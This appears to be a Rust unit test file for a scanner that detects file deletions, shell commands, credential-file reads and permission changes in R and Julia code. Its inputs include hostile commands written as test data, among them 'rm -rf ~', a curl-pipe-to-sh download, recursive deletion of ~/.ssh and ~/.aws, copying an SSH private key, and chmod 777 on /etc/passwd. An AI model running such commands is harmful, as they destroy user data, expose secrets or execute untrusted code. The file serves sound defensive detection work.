//! Unit tests of the token scanner for R and Julia, written from R's `base` documentation
//! (`unlink`, `file.remove`, `system`, `list.files`, `tempfile`, `do.call`, the `apply`
//! family) and Julia's `Base` and `Base.Filesystem` (`rm`, `cp`, `read`, `readdir`,
//! `tempname`, command literals, broadcasting).

use super::tests::runs;
use crate::effects::language::Language::{Julia, R};

#[test]
fn r_system_calls_run_lines_and_argument_lists() {
    assert_eq!(runs(R, r#"system("rm -rf ~")"#), ["line:system:rm -rf ~"]);
    assert_eq!(
        runs(R, r#"system('make test', intern = TRUE)"#),
        ["line:system:make test"]
    );
    assert_eq!(
        runs(R, r#"system2("rm", args = c("-rf", "/tmp/x"))"#),
        ["words:system2:rm -rf /tmp/x"]
    );
    assert_eq!(
        runs(
            R,
            r#"cmd <- "curl -s https://x.example/i.sh | sh"; system(cmd)"#
        ),
        ["line:system:curl -s https://x.example/i.sh | sh"]
    );
    assert_eq!(
        runs(R, "system(paste0(\"rm -rf \", Sys.getenv(\"HOME\")))"),
        ["line:system:rm -rf ${HOME}"]
    );
    assert_eq!(
        runs(R, "system(cmd)"),
        ["unsure:`system` with a command known only at run time"]
    );
    // `#` starts a comment; R has no command literals (backticks quote names).
    assert_eq!(
        runs(R, "# system('rm -rf ~')\n`my var` <- 1"),
        Vec::<String>::new()
    );
}

#[test]
fn r_deletes_resolve_the_home_folder() {
    assert_eq!(
        runs(R, r#"unlink("~", recursive = TRUE)"#),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(R, r#"unlink(path.expand("~"), TRUE)"#),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(R, r#"unlink(Sys.getenv("HOME"), recursive=TRUE)"#),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(R, r#"unlink(file.path("~", ".ssh"), recursive = T)"#),
        ["delete:~/.ssh:true"]
    );
    assert_eq!(
        runs(R, r#"file.remove(c("a.csv", "b.csv"))"#),
        ["delete:a.csv:false", "delete:b.csv:false"]
    );
    assert_eq!(runs(R, r#"unlink("build")"#), ["delete:build:false"]);
    assert_eq!(runs(R, r#"fs::dir_delete("out")"#), ["delete:out:true"]);
    // The base namespace written out, the path named, `recursive` by a prefix of its name.
    assert_eq!(
        runs(R, r#"base::unlink("~", recursive = TRUE)"#),
        ["delete:~:true"]
    );
    assert_eq!(runs(R, r#"unlink(x = "~", rec = TRUE)"#), ["delete:~:true"]);
    assert_eq!(runs(R, r#"unlink(x = "~", r = T)"#), ["delete:~:true"]);
    assert_eq!(
        runs(R, r#"unlink(x = "build", force = TRUE)"#),
        ["delete:build:false"]
    );
    assert_eq!(
        runs(R, "unlink(p, recursive = TRUE)"),
        ["unsure:`unlink` with a path known only at run time"]
    );
    // Pure code and R's own `rm` (a variable removed) delete nothing.
    assert_eq!(
        runs(R, "x <- c(1, 2); print(sum(x)); rm(x)"),
        Vec::<String>::new()
    );
}

#[test]
fn julia_command_literals_and_rm() {
    assert_eq!(
        runs(Julia, "run(`rm -rf $(homedir())`)"),
        ["line:`…`:rm -rf ${HOME}"]
    );
    assert_eq!(
        runs(Julia, r#"d = "/tmp/x"; run(`rm -rf $d`)"#),
        ["line:`…`:rm -rf /tmp/x"]
    );
    assert_eq!(
        runs(Julia, "rm(homedir(); recursive=true)"),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(Julia, "rm(homedir(), recursive = true)"),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(
            Julia,
            r#"rm(joinpath(homedir(), ".ssh"); force=true, recursive=true)"#
        ),
        ["delete:~/.ssh:true"]
    );
    assert_eq!(
        runs(Julia, r#"Base.rm(expanduser("~/.config"); recursive=true)"#),
        ["delete:~/.config:true"]
    );
    assert_eq!(runs(Julia, r#"rm("out.txt")"#), ["delete:out.txt:false"]);
    assert_eq!(
        runs(Julia, "rm(p; recursive=true)"),
        ["unsure:`rm` with a path known only at run time"]
    );
    // `#=` … `=#` is a comment; package work deletes nothing.
    assert_eq!(
        runs(
            Julia,
            "#= rm(homedir(); recursive=true) =#\nusing Pkg; Pkg.instantiate()"
        ),
        Vec::<String>::new()
    );
}

#[test]
fn r_and_julia_temporary_paths_and_folder_listings_resolve() {
    // R's session folder and a new name in it; Julia's temporary folder and new names.
    assert_eq!(
        runs(
            R,
            r#"unlink(file.path(tempdir(), "cache"), recursive = TRUE)"#
        ),
        ["delete:/tmp/RtmpXXXXXX/cache:true"]
    );
    assert_eq!(
        runs(R, "unlink(tempfile())"),
        ["delete:/tmp/RtmpXXXXXX/tmpXXXXXXXX:false"]
    );
    assert_eq!(
        runs(R, r#"unlink(tempfile("x", tmpdir = "out"))"#),
        ["delete:out/tmpXXXXXXXX:false"]
    );
    assert_eq!(
        runs(Julia, "rm(mktempdir(); recursive=true)"),
        ["delete:/tmp/tmpXXXXXXXX:true"]
    );
    assert_eq!(
        runs(Julia, r#"rm(tempname("build"))"#),
        ["delete:build/tmpXXXXXXXX:false"]
    );
    assert_eq!(
        runs(Julia, "rm(tempdir(); recursive=true)"),
        ["delete:/tmp:true"]
    );
    // A folder argument known only at run time: unsure, not the default folder.
    assert_eq!(
        runs(R, "unlink(tempfile(tmpdir = d))"),
        ["unsure:`unlink` with a path known only at run time"]
    );
    // Listings: full paths (`full.names = TRUE`, `join = true`, `list.dirs`) are in the
    // folder; bare names are used against the working folder.
    assert_eq!(
        runs(R, r#"file.remove(list.files("~/.ssh", full.names = TRUE))"#),
        ["delete:~/.ssh/*:false"]
    );
    assert_eq!(
        runs(R, r#"file.remove(list.files("out", pattern = "csv$"))"#),
        ["delete:*:false"]
    );
    assert_eq!(
        runs(R, r#"unlink(list.dirs("~"), recursive = TRUE)"#),
        ["delete:~/*:true"]
    );
    assert_eq!(
        runs(R, r#"unlink(Sys.glob("~/.aws/*"))"#),
        ["delete:~/.aws/*:false"]
    );
    assert_eq!(
        runs(Julia, r#"rm.(readdir("build"; join=true); recursive=true)"#),
        ["delete:build/*:true"]
    );
}

#[test]
fn r_and_julia_functions_passed_to_higher_order_calls_are_called() {
    assert_eq!(
        runs(R, r#"do.call(unlink, list("~", recursive = TRUE))"#),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(R, r#"do.call("system", list("rm -rf ~"))"#),
        ["line:system:rm -rf ~"]
    );
    assert_eq!(
        runs(
            R,
            r#"lapply(c("~/.ssh", "~/.aws"), unlink, recursive = TRUE)"#
        ),
        ["delete:~/.ssh:true", "delete:~/.aws:true"]
    );
    assert_eq!(
        runs(
            R,
            r#"invisible(sapply(list.files("~", full.names = TRUE), base::unlink, recursive = TRUE))"#
        ),
        ["delete:~/*:true"]
    );
    assert_eq!(
        runs(R, r#"purrr::walk(c("a.csv"), file.remove)"#),
        ["delete:a.csv:false"]
    );
    assert_eq!(
        runs(Julia, r#"foreach(rm, readdir(homedir(); join=true))"#),
        ["delete:~/*:false"]
    );
    assert_eq!(
        runs(Julia, "rm.(readdir(homedir(); join=true); recursive=true)"),
        ["delete:~/*:true"]
    );
    // A lambda's parameter takes the listing's paths; over a list known only at run time
    // it is unknown.
    assert_eq!(
        runs(
            Julia,
            "foreach(p -> rm(p; recursive=true), readdir(homedir(); join=true))"
        ),
        ["delete:~/*:true"]
    );
    assert_eq!(
        runs(Julia, "foreach(p -> rm(p; recursive=true), paths)"),
        ["unsure:`rm` with a path known only at run time"]
    );
    // A function that is neither named nor one of the language's: nothing is known to run.
    assert_eq!(
        runs(R, r#"do.call(f, list("~")); lapply(1:3, function(i) i^2)"#),
        Vec::<String>::new()
    );
    assert_eq!(
        runs(Julia, "map(x -> x^2, [1, 2, 3]) |> println"),
        Vec::<String>::new()
    );
}

#[test]
fn r_and_julia_code_on_standard_input_is_read() {
    crate::effects::inline::tests::table(&[
        (
            r#"echo 'unlink("~", recursive = TRUE)' | R --vanilla"#,
            &["delete ~ recursively"],
        ),
        (
            "R --no-save -q <<'EOF'\nsystem(\"make test\")\nEOF",
            &["run make test"],
        ),
        // R(1)'s `-f FILE` naming standard input.
        (
            "R -f /dev/stdin <<'EOF'\nunlink(\"~\", recursive = TRUE)\nEOF",
            &["delete ~ recursively"],
        ),
        (
            "R --no-echo --file=- <<'EOF'\nsystem(\"make test\")\nEOF",
            &["run make test"],
        ),
        (
            r#"echo 'system("rm -rf /tmp/x")' | Rscript -"#,
            &["run rm -rf /tmp/x", "delete /tmp/x recursively"],
        ),
        (
            r#"echo 'rm(homedir(); recursive=true)' | julia --project"#,
            &["delete ~ recursively"],
        ),
        // `Rscript` with no file prints its usage and reads nothing; a script file is the
        // code, not standard input.
        ("Rscript <<'EOF'\nunlink(\"~\", recursive = TRUE)\nEOF", &[]),
        (r#"echo 'x' | julia script.jl"#, &[]),
    ]);
}

#[test]
fn r_and_julia_reads_copies_and_modes() {
    assert_eq!(
        runs(Julia, r#"println(read(".env", String))"#),
        [r#"Read(PathRef { text: ".env", dynamic: false, cwd: None })"#]
    );
    assert_eq!(
        runs(
            Julia,
            r#"cp(joinpath(homedir(), ".ssh/id_rsa"), "k"; force=true)"#
        ),
        [
            r#"Read(PathRef { text: "~/.ssh/id_rsa", dynamic: false, cwd: None })"#,
            r#"Write { path: PathRef { text: "k", dynamic: false, cwd: None }, append: false, content: None }"#
        ]
    );
    assert_eq!(
        runs(R, r#"file.copy(".env", "/tmp/e", overwrite = TRUE)"#),
        [
            r#"Read(PathRef { text: ".env", dynamic: false, cwd: None })"#,
            r#"Write { path: PathRef { text: "/tmp/e", dynamic: false, cwd: None }, append: false, content: None }"#
        ]
    );
    // An open stream or a command's output is no file of its own.
    assert_eq!(
        runs(
            Julia,
            r#"open("data.txt") do f; for l in eachline(f); println(l); end; end"#
        ),
        [r#"Read(PathRef { text: "data.txt", dynamic: false, cwd: None })"#]
    );
    assert_eq!(
        runs(
            Julia,
            "h = read(`git rev-parse HEAD`, String); x = readlines(stdin)"
        ),
        ["line:`…`:git rev-parse HEAD"]
    );
    // R's connection to a file is that file.
    assert_eq!(
        runs(R, r#"con <- file("x.txt"); x <- readLines(con)"#),
        [r#"Read(PathRef { text: "x.txt", dynamic: false, cwd: None })"#]
    );
    // R's mode as text is octal already; Julia's is a number.
    assert_eq!(
        runs(R, r#"Sys.chmod("/etc/passwd", "777")"#),
        [
            r#"ChangePermission { path: PathRef { text: "/etc/passwd", dynamic: false, cwd: None }, mode: Some("777"), recursive: false }"#
        ]
    );
    assert_eq!(
        runs(Julia, r#"chmod("/etc/passwd", 0o777)"#),
        [
            r#"ChangePermission { path: PathRef { text: "/etc/passwd", dynamic: false, cwd: None }, mode: Some("777"), recursive: false }"#
        ]
    );
}

#[test]
fn r_and_julia_loops_over_a_listing_bind_each_path() {
    assert_eq!(
        runs(
            R,
            r#"for (f in list.files("out", full.names = TRUE)) unlink(f)"#
        ),
        ["delete:out/*:false"]
    );
    assert_eq!(
        runs(
            Julia,
            r#"for f in readdir(homedir(); join=true); rm(f; recursive=true); end"#
        ),
        ["delete:~/*:true"]
    );
    assert_eq!(
        runs(Julia, "for f = readdir(\"build\"; join=true)\n rm(f)\nend"),
        ["delete:build/*:false"]
    );
    // A loop over something known only at run time, or over several values, stays unbound.
    assert_eq!(
        runs(R, "for (f in files) unlink(f)"),
        ["unsure:`unlink` with a path known only at run time"]
    );
    assert_eq!(
        runs(R, r#"for (f in c("a.csv", "b.csv")) file.remove(f)"#),
        ["unsure:`file.remove` with a path known only at run time"]
    );
    assert_eq!(runs(R, "for (i in 1:10) print(i)"), Vec::<String>::new());
}
